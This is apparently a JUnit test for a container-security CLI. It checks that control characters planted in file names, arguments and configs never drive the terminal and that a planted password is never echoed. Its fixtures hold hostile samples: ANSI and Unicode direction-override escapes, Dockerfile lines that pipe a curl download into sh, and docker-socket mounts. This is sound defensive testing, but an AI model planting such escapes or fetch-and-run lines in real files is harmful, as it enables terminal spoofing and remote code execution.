package io.plimsoll.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.plimsoll.core.words.Printable;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that files, names or arguments hold drives the terminal, whatever command prints it and wherever to. */
class HostileTest {

  /** Turns red and back, sets the title, clears the screen in one byte, turns the direction of writing, goes back in the line. */
  private static final String EVIL = "\u001B[31mx\u001B]0;t\u0007\u009B2J\u202Ecod\u2066\r";

  /** In a file that has escapes of its own. */
  private static final String ESCAPED = "\\u001B[31mx\\u001B]0;t\\u0007\\u009B2J\\u202Ecod\\u2066\\r";

  /** What YAML takes as it is. */
  private static final String TURNED = "\u202Ecod\u2066";

  private static final Instant NOW = Instant.ofEpochSecond(1_795_338_764L);

  @TempDir Path temporary;

  private Path tree;

  @BeforeEach
  void write() throws IOException {
    tree = temporary.toRealPath().resolve("tree");
    // YAML itself holds no control characters but in escapes of its own.
    file("compose.yaml", """
        services:
          db:
            image: postgres:17 # TURNED
            container_name: "ESCAPED"
            ports: ["5432:5432"] # TURNED
            environment:
              "A_ESCAPED_PASSWORD": "kX8vQ2mZ7pL4wR9tB3nF6yH1ESCAPED"
              POSTGRES_PASSWORD: "ESCAPED"
              OTHER_PASSWORD: "ESCAPED${X}"
            volumes: # TURNED
              - "/var/run/docker.sock:/s/ESCAPED"
              - "ESCAPED/docker.sock:/t"
            security_opt: ["no-new-privileges:false"]
        """);
    file("folder EVIL/compose.yaml", "services: {web: {image: nginx, privileged: true, user: root}}\n");
    file("bad EVIL/compose.yaml", "services: {\"ESCAPED\": {imag: \"ESCAPED\"}}\n");
    file("odd/compose.yaml", "services:\n  web: {EVIL\n");
    file("api/Dockerfile", "FROM a/EVIL:1 AS EVIL\nRUN curl https://EVIL/x | sh # EVIL\nUSER EVIL\n");
    file("one/Dockerfile", "FROM python\nENV A_KEY=EVIL\nRUN curl https://TURNED/x | sh # EVIL\nUSER root\n");
    file("two/Dockerfile", "FROM python:EVIL\nRNU EVIL\n");
    file("create.json", "{\"Image\": \"ESCAPED\", \"HostConfig\": {\"Privileged\": true, \"Binds\": [\"/var/run/docker.sock:ESCAPED\"]}}");
    file("inspect.json", "[{\"Name\": \"/ESCAPED\", \"Config\": {\"Image\": \"ESCAPED\", \"Env\": [\"A_PASSWORD=ESCAPED\"]}, \"State\": {},"
        + " \"HostConfig\": {\"Privileged\": true, \"Binds\": [\"/var/run/docker.sock:/ESCAPED\"]}}]");
    // The policy refuses control characters in such texts, and takes what turns the direction of writing.
    file("plimsoll.yaml", """
        version: 1
        waivers:
          - {rule: privileged, at: "**#\\u202ETURNED", owner: "\\u202ETURNED password: hunter2hunter2", until: 2020-01-31, reason: "\\u202ETURNED"}
          - {rule: runs-as-root, at: "**#web", owner: "\\u202ETURNED", until: 2099-01-31, reason: "\\u202ETURNED password: hunter2hunter2"}
        """);
    file("sub EVIL/plimsoll.yaml", "version: 1\n");
    file("bad.yaml", "version: 1\n\"ESCAPED\": 2\nrules: {\"ESCAPED\": off, privileged: \"ESCAPED\"}\n"
        + "waivers: [{rule: privileged, at: x, owner: \"ESCAPED\", until: 2099-01-31, reason: \"ESCAPED\"}]\n");
    file("evil.yaml", "version: 1 EVIL\n");
  }

  private void file(String name, String text) throws IOException {
    Path file = tree.resolve(name.replace("EVIL", EVIL.replace("\r", "")));
    Files.createDirectories(file.getParent());
    Files.writeString(file, text.replace("EVIL", EVIL).replace("ESCAPED", ESCAPED).replace("TURNED", TURNED));
  }

  static List<List<String>> commands() {
    var commands = new ArrayList<List<String>>();
    for (String format : Reports.FORMATS) {
      commands.add(List.of("check", "--all", "--format", format));
      commands.add(List.of("check", "create.json", "inspect.json", "--all", "--format", format));
    }
    commands.add(List.of("check"));
    commands.add(List.of("check", "--as", "create", "create.json"));
    commands.add(List.of("check", "-c", "bad.yaml"));
    commands.add(List.of("check", "-c", "evil.yaml"));
    commands.add(List.of("check", "--all", "--", "docker", "run", "--name", EVIL, "-v", "/var/run/docker.sock:/" + EVIL, "a/" + EVIL));
    commands.add(List.of("check", "--", "docker", "run", "--" + EVIL, "a"));
    commands.add(List.of("check", "--", EVIL));
    commands.add(List.of("check", EVIL));
    commands.add(List.of("check", "-c", EVIL));
    commands.add(List.of("check", "--root", EVIL));
    commands.add(List.of("check", "--format", EVIL));
    commands.add(List.of("check", "--format", "json=" + EVIL + "/x"));
    commands.add(List.of("check", "--only", EVIL));
    commands.add(List.of("check", "--" + EVIL));
    commands.add(List.of("check", "--fail-on", EVIL));
    commands.add(List.of("explain", EVIL));
    commands.add(List.of("rules", "--format", EVIL));
    commands.add(List.of("completion", EVIL));
    commands.add(List.of(EVIL));
    commands.add(List.of("fix"));
    commands.add(List.of("fix", "--unsafe"));
    commands.add(List.of("fix", "--unsafe", "--write"));
    return commands;
  }

  @ParameterizedTest
  @MethodSource("commands")
  void nothingDrivesTheTerminal(List<String> command) {
    Printed printed = run(command, true);
    String text = (printed.out + printed.err).replaceAll("\u001B\\[(0|1|2|36|1;3[1235]|1;97;41)m", "");
    assertThat(text.replace("\n", "").replace("\t", "").codePoints()).allMatch(Printable::is);
    assertThat(text).doesNotContain("hunter2hunter2");
    boolean diff = command.getFirst().equals("fix");
    assertThat(run(command, false).err.replace("\n", "").replace("\t", "").codePoints()).allMatch(Printable::is);
    if (!diff) {
      assertThat(run(command, false).out.replace("\n", "").codePoints()).allMatch(Printable::is);
    }
  }

  @Test
  void itIsAllFoundAllTheSame() {
    Printed printed = run(List.of("check", "--all"), false);
    assertThat(printed.err).contains("unknown instruction RNU");
    assertThat(printed.out).contains("docker-socket", "privileged", "secret-in-env", "remote-script", "expired-waiver", "other-policy")
        .contains("\\u{1b}[31m").contains("\\u{202e}");
    assertThat(run(List.of("fix", "--unsafe"), true).out).contains("# \\u{202e}cod\\u{2066}");
    assertThat(run(List.of("fix", "--unsafe"), false).out).as("git apply needs the bytes").contains("# " + TURNED);
  }

  private record Printed(String out, String err) {}

  private Printed run(List<String> words, boolean terminal) {
    var out = new ByteArrayOutputStream();
    var err = new ByteArrayOutputStream();
    try (var outStream = new PrintStream(out, true, StandardCharsets.UTF_8);
        var errStream = new PrintStream(err, true, StandardCharsets.UTF_8)) {
      Main.run(words, new Io(new ByteArrayInputStream(new byte[0]), outStream, errStream, Map.of(), tree, terminal, NOW));
    }
    return new Printed(out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
  }
}
